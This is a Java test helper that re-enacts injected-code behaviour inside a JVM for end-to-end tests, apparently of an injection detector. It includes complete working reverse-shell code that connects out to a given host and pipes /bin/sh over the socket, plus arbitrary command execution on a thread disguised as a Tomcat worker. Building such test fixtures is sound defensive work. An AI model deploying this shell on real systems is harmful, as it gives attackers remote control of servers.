// Re-enacts what injected code does from inside a JVM, for the end-to-end tests.
//
//   java Reenact.java exec CMD [ARGS...]    Runtime.exec of a command from a worker thread,
//                                           output copied to stdout, waited for
//   java Reenact.java revshell HOST PORT [DELAY_MS]
//                                           connects out, waits DELAY_MS (0), then runs
//                                           /bin/sh on pipes and pumps the socket into it
//                                           (a Java-native reverse shell: no descriptor of
//                                           the shell is ever a socket)
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;

public class Reenact {
    public static void main(String[] args) throws Exception {
        switch (args[0]) {
            case "exec" -> onWorkerThread(() -> exec(java.util.Arrays.copyOfRange(args, 1, args.length)));
            case "revshell" -> onWorkerThread(() -> revshell(args[1], Integer.parseInt(args[2]),
                    args.length > 3 ? Long.parseLong(args[3]) : 0));
            default -> throw new IllegalArgumentException("unknown mode " + args[0]);
        }
    }

    interface Body { void run() throws Exception; }

    /// Tomcat runs requests on pool threads; so do we.
    static void onWorkerThread(Body body) throws Exception {
        Exception[] failure = new Exception[1];
        Thread worker = new Thread(() -> {
            try { body.run(); } catch (Exception e) { failure[0] = e; }
        }, "http-bio-127.0.0.1-8081-exec-1");
        worker.start();
        worker.join();
        if (failure[0] != null) throw failure[0];
    }

    static void exec(String[] cmd) throws Exception {
        Process p = Runtime.getRuntime().exec(cmd);
        p.getInputStream().transferTo(System.out);
        System.out.flush();
        System.exit(p.waitFor());
    }

    static void revshell(String host, int port, long delayMs) throws Exception {
        try (Socket s = new Socket(host, port)) {
            Thread.sleep(delayMs);
            Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
            Thread in = pump(s.getInputStream(), p.getOutputStream());
            Thread out = pump(p.getInputStream(), s.getOutputStream());
            p.waitFor();
            out.join(2000);
            in.interrupt();
        }
    }

    static Thread pump(InputStream from, OutputStream to) {
        Thread t = new Thread(() -> {
            byte[] buf = new byte[4096];
            try {
                int n;
                while ((n = from.read(buf)) > 0) { to.write(buf, 0, n); to.flush(); }
                to.close();
            } catch (Exception ignored) { }
        });
        t.setDaemon(true);
        t.start();
        return t;
    }
}
